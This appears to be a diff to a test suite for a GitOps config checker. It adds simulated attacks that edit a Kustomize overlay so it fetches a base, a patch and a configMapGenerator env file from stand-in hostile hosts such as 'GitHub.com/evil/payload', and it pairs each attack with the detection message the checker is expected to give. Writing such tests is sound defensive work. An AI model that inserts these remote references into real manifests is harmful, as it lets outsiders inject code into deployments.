@@ -593,6 +593,39 @@ ATTACKS: dict[str, Attack] = {
         f"{DEV_OVERLAY}/kustomization.yml:",
         f"resources lists {REMOTE_BASE}, which is fetched from outside this repository",
     ),
+    "remote-base-in-another-spelling": Attack(
+        lambda r: (
+            (r / DEV_OVERLAY / "GitHub.com/evil/payload").mkdir(parents=True),  # Kustomize tries git first
+            edit(
+                r,
+                f"{DEV_OVERLAY}/kustomization.yaml",
+                "resources:\n",
+                "resources:\n  - GitHub.com/evil/payload\n",
+            ),
+        ),
+        f"{DEV_OVERLAY}/kustomization.yaml:",
+        "resources lists GitHub.com/evil/payload, which is fetched",
+    ),
+    "remote-patch": Attack(
+        lambda r: edit(
+            r,
+            f"{DEV_OVERLAY}/kustomization.yaml",
+            "patches:\n",
+            "patches:\n  - path: http://example.net/p.yaml\n",
+        ),
+        f"{DEV_OVERLAY}/kustomization.yaml:",
+        "patches lists http://example.net/p.yaml, which is fetched",
+    ),
+    "remote-generator-file": Attack(
+        lambda r: edit(
+            r,
+            f"{DEV_OVERLAY}/kustomization.yaml",
+            "patches:\n",
+            "configMapGenerator:\n  - name: cfg\n    envs: [deploy@example.com:evil/env]\npatches:\n",
+        ),
+        f"{DEV_OVERLAY}/kustomization.yaml:",
+        "configMapGenerator lists deploy@example.com:evil/env, which is fetched",
+    ),
     "argocd-source-file-in-an-overlay": Attack(
         lambda r: write(r, f"{DEV_OVERLAY}/.argocd-source.yaml", 'directory: {include: "payload.yaml"}\n'),
         f"{DEV_OVERLAY}/.argocd-source.yaml:",
